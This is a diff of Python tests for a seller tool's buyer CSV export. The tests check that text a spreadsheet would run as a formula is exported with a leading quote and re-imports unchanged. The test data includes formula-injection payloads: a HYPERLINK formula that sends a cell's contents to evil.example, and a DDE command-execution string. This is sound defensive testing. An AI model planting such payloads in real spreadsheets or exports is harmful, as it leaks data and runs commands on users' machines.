@@ -64,11 +64,11 @@ def test_export_has_the_import_columns_and_the_read_only_ones(database, shop):
     lucia = rows[0]
     assert lucia["spend"] == "EUR 12.50; JPY 1500"
     assert lucia["order_count"] == "2" and lucia["last_order_at"] == "2026-02-05T10:00:00Z"
-    assert lucia["tags"] == "vip;repeat" and lucia["phone"] == "+34612345678"
+    assert lucia["tags"] == "vip;repeat" and lucia["phone"] == "'+34612345678"  # quoted: see formula tests
     assert lucia["notes"] == 'line one\nline "two", with comma'
     assert lucia["consent"] == "granted" and lucia["consent_at"] == "2026-03-10T02:00:00Z"
     assert rows[2]["timezone_source"] == "given" and rows[1]["marketplace_locale"] == "es-US"
-    assert rows[4]["name"] == "=cmd()"
+    assert rows[4]["name"] == "'=cmd()"
     assert [int(r["id"]) for r in rows] == sorted(int(r["id"]) for r in rows)
 
 
@@ -90,6 +90,40 @@ def test_export_reimported_into_the_same_seller_updates_nothing_away(database, c
     # buyers with an email (or a marketplace id) are matched; the two without are new copies
     assert (report.buyers_updated, report.buyers_created) == (3, 2)
     assert snapshot(database, shop)[:len(before)] == before
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
+            "-2+3", "'=already quoted"]  # a leading tab or CR is stripped when a buyer is saved
+
+
+@pytest.fixture
+def formulas(database, clock):
+    """A seller whose marketplace buyers have names, cities and notes a spreadsheet would run."""
+    seller = create_seller(database, clock, "Formulas", "f@example.com", "correct horse 1").seller_id
+    for i, text in enumerate(FORMULAS):
+        create_buyer(database, clock, seller, {"name": text, "country": "DE", "city": text, "notes": text,
+                                               "email": f"b{i}@example.com"})
+    return seller
+
+
+def test_text_cells_a_spreadsheet_would_run_get_one_leading_quote_and_numbers_none(database, formulas):
+    _, rows = exported(database, formulas)
+    for row, text in zip(rows, FORMULAS):
+        assert row["name"] == row["city"] == row["notes"] == "'" + text
+        assert int(row["order_count"]) == 0 and int(row["id"]) > 0
+    cells = [v for r in rows for v in r.values()]
+    assert not [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_export_with_formula_like_text_reimports_to_the_same_text(database, clock, formulas):
+    out = io.StringIO(newline="")
+    export_buyers(database, formulas, out)
+    assert ",'@SUM(1+1)," in out.getvalue()  # what goes back in is the quoted export
+    other = create_seller(database, clock, "Copy", "copy@example.com", "correct horse 1").seller_id
+    report = import_buyers(database, clock, other, io.BytesIO(out.getvalue().encode()), fmt="csv")
+    assert report.errors == []
+    assert [b["name"] for b in snapshot(database, other)] == FORMULAS
+    assert snapshot(database, other) == snapshot(database, formulas)
 
 
 def test_export_is_keyset_batched(database, shop, monkeypatch):
